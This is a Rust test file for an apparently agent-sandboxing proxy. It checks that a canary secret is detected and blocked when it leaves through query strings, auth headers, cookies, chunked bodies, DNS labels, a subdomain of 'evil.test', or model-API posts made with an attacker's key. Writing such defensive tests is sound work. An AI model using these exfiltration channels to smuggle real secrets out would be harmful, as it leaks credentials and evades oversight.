//! The honey surrogate: wherever it is on its way out, it does not leave, and nothing else does then.

use airut::events::event::ProxyEvent;
use airut::events::proxy::HoneySurrogateSeen;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use tokio::io::AsyncWriteExt as _;
use tokio::net::UdpSocket;

use crate::client::status;
use crate::world::{HONEY, SURROGATE, World, at};

async fn seen(world: &World) -> HoneySurrogateSeen {
    let seen = |event: &ProxyEvent| match event {
        ProxyEvent::HoneySurrogateSeen(seen) => Some(seen.clone()),
        _ => None,
    };
    world.event(seen).await
}

/// Asserts that the value was seen at a place, that nothing arrived, and that nothing else leaves.
#[track_caller]
fn assert_closed(world: &World, answer: &str, later: &str) {
    assert!(matches!(status(answer), 0 | 400 | 403), "{answer}");
    assert!(
        !answer.contains(HONEY) && !answer.contains("honey"),
        "{answer}"
    );
    assert_eq!(status(later), 403, "{later}");
    // Of a body that broke off the origin may have the head and a part, and says so.
    let arrived = world.origin.seen();
    assert!(arrived.iter().all(|seen| seen.body == "broken off"));
}

async fn innocent(world: &World) -> String {
    let get = "GET /echo HTTP/1.1\r\nhost: two.test\r\nconnection: close\r\n\r\n";
    world.client.say("two.test", get).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_head_that_holds_it_does_not_leave_and_nothing_does_after_it() {
    let basic = BASE64.encode(format!("git:{HONEY}"));
    let encoded: String = HONEY.bytes().map(|byte| format!("%{byte:02X}")).collect();
    for (target, header, place) in [
        (
            format!("/echo?t={HONEY}"),
            "x: y".to_owned(),
            "the path or query",
        ),
        (
            format!("/{encoded}"),
            "x: y".to_owned(),
            "the path or query",
        ),
        (
            "/echo".to_owned(),
            format!("authorization: Basic {basic}"),
            "the header authorization",
        ),
        (
            "/echo".to_owned(),
            format!("cookie: a={}", hex::encode(HONEY)),
            "the header cookie",
        ),
    ] {
        let world = World::start().await;
        let get = format!(
            "GET {target} HTTP/1.1\r\nhost: one.test\r\n{header}\r\nconnection: close\r\n\r\n"
        );
        let answer = world.client.say("one.test", &get).await;
        assert_closed(&world, &answer, &innocent(&world).await);
        let seen = seen(&world).await;
        assert_eq!((seen.place.as_str(), seen.bytes_up), (place, 0));
        assert_eq!(seen.line.unwrap().host, "one.test");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_that_no_rule_allows_shows_the_theft_too() {
    let world = World::start().await;
    let name = format!("{}.evil.test", HONEY.to_lowercase());
    let get = format!("GET / HTTP/1.1\r\nhost: {name}\r\nconnection: close\r\n\r\n");
    let answer = world.client.say_plain(&get).await;
    assert_closed(&world, &answer, &innocent(&world).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_breaks_off_before_the_piece_that_completes_it() {
    let pieces = |text: &str, length: usize| -> String {
        let pieces = text.as_bytes().chunks(length);
        let chunk = |piece: &[u8]| {
            format!(
                "{:x}\r\n{}\r\n",
                piece.len(),
                String::from_utf8_lossy(piece)
            )
        };
        pieces.map(chunk).collect()
    };
    let encoded = BASE64.encode(format!("{{\"env\": \"{HONEY}\"}}"));
    for (host, text) in [
        ("one.test", HONEY),
        ("two.test", HONEY),
        ("one.test", &encoded),
    ] {
        for length in [1, 7, 1000] {
            let world = World::start().await;
            let post = format!(
                "POST /echo HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\
                 transfer-encoding: chunked\r\n\r\n{}0\r\n\r\n",
                pieces(&format!("before {text} after"), length)
            );
            let answer = world.client.say(host, &post).await;
            let seen = seen(&world).await;
            assert_eq!(seen.place, "the body");
            assert!(seen.bytes_up < 7 + text.len() as u64, "{}", seen.bytes_up);
            assert_closed(&world, &answer, &innocent(&world).await);
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_agents_talk_with_its_model_may_hold_it_in_the_body_alone() {
    let post = |path: &str, header: &str| {
        let body = format!("{{\"messages\": \"DEPLOY_TOKEN={HONEY}\"}}");
        format!(
            "POST {path} HTTP/1.1\r\nhost: one.test\r\n{header}\r\nconnection: close\r\n\
             content-length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let key = format!("x-api-key: {SURROGATE}");
    let world = World::start().await;
    let answer = world
        .client
        .say("one.test", &post("/v1/messages", &key))
        .await;
    assert_eq!(status(&answer), 200, "{answer}");
    assert_eq!(status(&innocent(&world).await), 200);
    for (path, header) in [
        // Another path of the same host takes uploads.
        ("/v1/files", key.as_str()),
        // Without the run's own credential it is somebody else's account.
        ("/v1/messages", "x-api-key: an-attackers-key"),
        ("/v1/messages", &format!("{key}\r\nx-note: {HONEY}")),
    ] {
        let world = World::start().await;
        let answer = world.client.say("one.test", &post(path, header)).await;
        seen(&world).await;
        assert_closed(&world, &answer, &innocent(&world).await);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_is_asked_for_shows_the_theft() {
    let world = World::start().await;
    let (one, other) = HONEY.split_at(20);
    let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [one, other, "test"] {
        query.push(label.len() as u8);
        query.extend(label.bytes());
    }
    query.extend([0, 0, 1, 0, 1]);
    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let proxy = at(&world.setup, world.setup.ports.dns);
    socket.send_to(&query, proxy).await.unwrap();
    let seen = seen(&world).await;
    assert_eq!(
        (seen.place.as_str(), seen.request),
        ("a name that was asked for", None)
    );
    assert_closed(&world, "", &innocent(&world).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_request_shows_the_theft_too() {
    let world = World::start().await;
    let mut stream = world
        .client
        .tls("one.test", "http/1.1", true)
        .await
        .unwrap();
    let head = format!("GET / HTTP/1.1\r\nhost: one.test\r\nbad header {HONEY}\r\n\r\n");
    stream.write_all(head.as_bytes()).await.unwrap();
    assert_eq!(seen(&world).await.place, "a malformed request");
    assert_closed(&world, "", &innocent(&world).await);
}
